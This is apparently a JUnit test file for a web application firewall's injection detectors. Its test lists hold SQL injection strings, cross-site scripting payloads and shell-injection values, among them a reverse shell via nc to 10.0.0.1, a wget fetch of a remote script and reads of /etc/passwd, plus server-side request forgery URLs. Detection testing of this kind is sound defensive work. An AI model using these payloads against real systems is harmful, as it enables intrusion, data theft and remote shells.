package io.portcullis.waf;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.List;
import java.util.function.Predicate;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The grammar detectors on their own: shapes they must see, text they must leave alone, and their cost. */
class GrammarDetectorTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "1' or '1'='1",
                "admin'--",
                "1 union select 1,2,3",
                "-1 union all select null,version()--",
                "1; drop table users",
                "' and sleep(5)#",
                "') or ('a'='a",
                "1) or (1=1",
                "x' union select password from users--",
                "1 and ascii(substring(user(),1,1))>64",
                "\" or \"\"=\"",
                "1' and extractvalue(1,concat(0x7e,version()))--",
                "emptyvalue', '4', '2');declare @q varchar(99);exec(@q);--",
                "' || pg_sleep(5)--",
                "1 or 1=1",
                "1 having 1=1",
                "' waitfor delay '0:0:5'--",
                "1 order by 3--"
            })
    void sqlWhenTheValueLeavesItsContextThenDetected(String value) {
        assertTrue(SqlInjectionDetector.detect(value), value);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "o'reilly sql pocket guide",
                "select union jacket",
                "1=1 meaning math",
                "kids' shoes",
                "drop table lamp",
                "tom and jerry",
                "union all vs union",
                "order by price",
                "'single quotes' and \"double\"",
                "rock 'n' roll",
                "how to select a laptop",
                "i can't and won't",
                "3 or 4 people",
                "delete my account",
                "select * from tutorial",
                "it's having fun",
                "2 select boxes",
                "order 66 from star wars",
                "what does \"drop table\" mean"
            })
    void sqlWhenTheValueIsTextThenNotDetected(String value) {
        assertFalse(SqlInjectionDetector.detect(value), value);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "\" onmouseover=\"alert(1)",
                "' autofocus onfocus='alert(1)",
                "javascript:alert(1)",
                "<svg/onload=alert(1)>",
                "\"><iframe src=//x>",
                "<a href=\"java\tscript:alert(1)\">x</a>",
                "<div style=\"width: expression(alert(1))\">",
                "<object data=x>",
                "data:text/html;base64,phnjcmlwdd4=",
                "<body onload=alert(1)>",
                "<form><button formaction=javascript:alert(1)>"
            })
    void htmlWhenTheValueMakesScriptThenDetected(String value) {
        assertTrue(HtmlInjectionDetector.detect(value), value);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<3 mug",
                "a < b and c > d",
                "alert( keeps popping up",
                "<b>bold</b> and <i>it</i>",
                "javascript alert box",
                "onload event example",
                "i said \"hello there\" to her",
                "x <= 5",
                "<a href=\"https://example.com\">x</a>",
                "data:image/png;base64,ivborw0kggo="
            })
    void htmlWhenTheValueIsTextOrHarmlessMarkupThenNotDetected(String value) {
        assertFalse(HtmlInjectionDetector.detect(value), value);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                ";cat /etc/passwd",
                "| id",
                "x;id",
                "$(whoami)",
                "`id`",
                "127.0.0.1 && wget http://x/y.sh",
                "foo|nc -e /bin/sh 10.0.0.1 4444",
                ";{cat,/etc/passwd}",
                "& powershell -enc abc",
                "a\nwhoami",
                "sh -c whoami",
                "x; /usr/bin/id",
                "||ping -c 10 127.0.0.1"
            })
    void shellWhenACommandStartsInsideTheValueThenDetected(String value) {
        assertTrue(ShellInjectionDetector.detect(value, false), value);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "my;pass|word&more",
                "data:image/png;base64,abcd",
                "at&t prepaid",
                "tom & jerry",
                "fish & chips",
                "what does rm -rf do",
                "wget vs curl",
                "a=1&id=2",
                "python for data analysis",
                "time is money; cat lovers unite"
            })
    void shellWhenTheValueIsTextThenNotDetected(String value) {
        assertFalse(ShellInjectionDetector.detect(value, true), value);
    }

    @Test
    void shellWhenCmdExeStatementsThenDetected() {
        for (String value : List.of(
                "for /f \"tokens=*\" %g in ('dir /b') do echo %g",
                "if exist c:\\boot.ini echo yes", "if %errorlevel% equ 2 goto x", "if /i not a==b cmd")) {
            assertTrue(ShellInjectionDetector.batchStatement(value), value);
        }
        assertFalse(ShellInjectionDetector.batchStatement("if you exist in the for loop then do it"));
    }

    @Test
    void textContextWhenMarkdownCodeAndQuotesThenBlankedAndProse() {
        String markdown =
                "thanks! try `grep -c error app.log` and \"rm -rf build\" then:\n```sql\nselect 1 union select 2;\n```\nok";
        String blanked = TextContext.blankQuoted(markdown);
        assertEquals(markdown.length(), blanked.length());
        assertFalse(blanked.contains("grep") || blanked.contains("rm -rf") || blanked.contains("union"), blanked);
        assertTrue(blanked.contains("thanks!") && blanked.endsWith("ok"));
        assertEquals(TextContext.Kind.PROSE, TextContext.kind(markdown));
        assertEquals(TextContext.Kind.BARE, TextContext.kind("1' or '1'='1"));
        assertEquals(TextContext.Kind.BARE, TextContext.kind("exec xp_cmdshell"));
        assertEquals(TextContext.Kind.TEXT, TextContext.kind("alert( keeps popping up"));
    }

    @Test
    void textContextWhenLoopbackCallbackThenRecognisedButNotObfuscatedHosts() {
        for (String url : List.of(
                "http://localhost:3000/callback",
                "http://127.0.0.1:5000/auth?x=1",
                "https://[::1]:8443/",
                "http://host.docker.internal:3000/hook")) {
            assertTrue(TextContext.isLoopbackCallback(url), url);
        }
        for (String url : List.of(
                "http://0x7f000001/",
                "http://2130706433/",
                "gopher://localhost:6379/_info",
                "http://user@localhost/",
                "http://localhost:22\r\nx",
                "file:///etc/passwd",
                "http://169.254.169.254/",
                "http://localhost.evil.com/")) {
            assertFalse(TextContext.isLoopbackCallback(url), url);
        }
    }

    @Test
    void detectorsWhenGivenOneMegabyteOfAdversarialInputThenFinishInLinearTime() {
        int size = 1 << 20;
        List<String> units = List.of(
                "'",
                "\"",
                "' or ",
                "1 or ",
                "(",
                "/*",
                "<a ",
                "<a onx",
                "\" on",
                "<",
                "=",
                ";",
                "|",
                "&&",
                "$(",
                "`",
                "; ",
                "if ",
                "for %i in (",
                "```",
                "`a b` ",
                "\"a b\" ",
                "' ",
                "\n");
        List<Predicate<String>> detectors = List.of(
                SqlInjectionDetector::detect,
                HtmlInjectionDetector::detect,
                v -> ShellInjectionDetector.detect(v, false),
                v -> ShellInjectionDetector.detect(v, true),
                ShellInjectionDetector::batchStatement,
                v -> TextContext.blankQuoted(v).isEmpty(),
                v -> TextContext.kind(v) == TextContext.Kind.BARE,
                TextContext::isLoopbackCallback);
        for (String unit : units) {
            String value = unit.repeat(size / unit.length());
            for (Predicate<String> detector : detectors) {
                // a quadratic pass over 1 MB takes hours; a linear one well under a second
                assertTimeoutPreemptively(Duration.ofSeconds(3), () -> detector.test(value), () -> "unit " + unit);
            }
        }
    }
}
